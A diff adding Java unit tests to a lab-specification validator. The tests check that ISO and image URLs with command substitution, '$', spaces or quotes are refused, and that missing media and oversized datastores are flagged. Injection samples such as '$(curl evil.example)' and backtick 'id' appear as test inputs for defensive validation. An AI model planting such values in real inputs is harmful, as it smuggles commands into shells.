@@ -126,4 +126,75 @@ class SpecValidatorTest {
     assertTrue(Suggestions.closest("ram", keys).isEmpty());
     assertTrue(Suggestions.closest("colour", keys).isEmpty());
   }
+
+  private static MediaSpec isos(String esxiUrl, String vcsaUrl) {
+    return new MediaSpec(new MediaRef(esxiUrl, null), new MediaRef(vcsaUrl, null));
+  }
+
+  @Test
+  void aCommandSubstitutionInAUrlIsRefusedAsOne() {
+    String ok = "https://example.org/vcsa.iso";
+    for (String bad :
+        List.of("https://example.org/$(curl evil.example)/esxi.iso", "s3://b/`id`.iso")) {
+      List<Problem> problems = SpecValidator.validate(valid().media(isos(bad, ok)).build());
+      assertEquals(List.of("media.esxiIso.url"), problems.stream().map(Problem::path).toList());
+      assertTrue(problems.get(0).message().contains("command substitution"), problems.toString());
+      assertTrue(problems.get(0).message().contains("URL-encode"), problems.toString());
+    }
+    LabSpec guestImage =
+        valid()
+            .media(isos(ok, ok))
+            .guests(List.of(GuestSpec.of("web-01", "esx-02", "gs://b/${HOME}.ova")))
+            .build();
+    List<Problem> problems = SpecValidator.validate(guestImage);
+    assertEquals(List.of("guests[0].image"), problems.stream().map(Problem::path).toList());
+    assertTrue(problems.get(0).message().contains("'$'"), problems.toString());
+    // Spaces and quotes are refused too, each named, before render or up meets them.
+    problems = SpecValidator.validate(valid().media(isos("https://h/my iso.iso", ok)).build());
+    assertTrue(problems.get(0).message().contains("a space"), problems.toString());
+    problems = SpecValidator.validate(valid().media(isos("https://h/it's.iso", ok)).build());
+    assertTrue(problems.get(0).message().contains("a quote"), problems.toString());
+  }
+
+  @Test
+  void missingMediaIsAWarningNamingWhatUpNeeds() {
+    LabSpec noMedia = valid().build();
+    assertEquals(List.of(), SpecValidator.validate(noMedia));
+    List<Problem> warnings = SpecValidator.warnings(noMedia);
+    assertEquals(
+        List.of("media.esxiIso", "media.vcsaIso"), warnings.stream().map(Problem::path).toList());
+    assertTrue(warnings.get(0).message().contains("'nestlab up'"), warnings.toString());
+    assertTrue(warnings.get(0).message().contains("url:"), warnings.toString());
+    // Without vCenter only the ESXi installer is needed; with both given there is nothing to say.
+    LabSpec noVcenter = valid().vcenter(null).guests(List.of()).build();
+    assertEquals(
+        List.of("media.esxiIso"),
+        SpecValidator.warnings(noVcenter).stream().map(Problem::path).toList());
+    String url = "https://example.org/i.iso";
+    assertEquals(List.of(), SpecValidator.warnings(valid().media(isos(url, url)).build()));
+  }
+
+  @Test
+  void aDatastoreLargerThanAnyDataDiskIsRefused() {
+    assertEquals(
+        io.nestlab.plan.ResourceModel.MAX_DATA_DISK_GIB, SpecValidator.MAX_NESTED_DISK_GIB);
+    // 100 TiB of datastore on a lab whose data disk is sized for what it writes (about 20 GiB).
+    LabSpec huge = valid().esxi(EsxiSpec.of("8.0U3", 3).withDisksGib(32, 102_400)).build();
+    List<Problem> problems = SpecValidator.validate(huge);
+    assertEquals(List.of("esxi.datastoreDiskGib"), problems.stream().map(Problem::path).toList());
+    assertTrue(problems.get(0).message().contains("16384 GiB"), problems.toString());
+    LabSpec override =
+        valid()
+            .esxi(
+                EsxiSpec.of("8.0U3", 3)
+                    .withOverride("esx-02", new HostOverride(null, null, null, 20_000)))
+            .build();
+    assertEquals(List.of("esxi.overrides.esx-02.datastoreDiskGib"), paths(override));
+    // Each host below the limit, but together more than one data disk can hold.
+    LabSpec together = valid().esxi(EsxiSpec.of("8.0U3", 3).withDisksGib(32, 6_000)).build();
+    assertEquals(List.of("esxi"), paths(together));
+    assertTrue(
+        SpecValidator.validate(together).get(0).message().contains("18096 GiB"),
+        SpecValidator.validate(together).toString());
+  }
 }
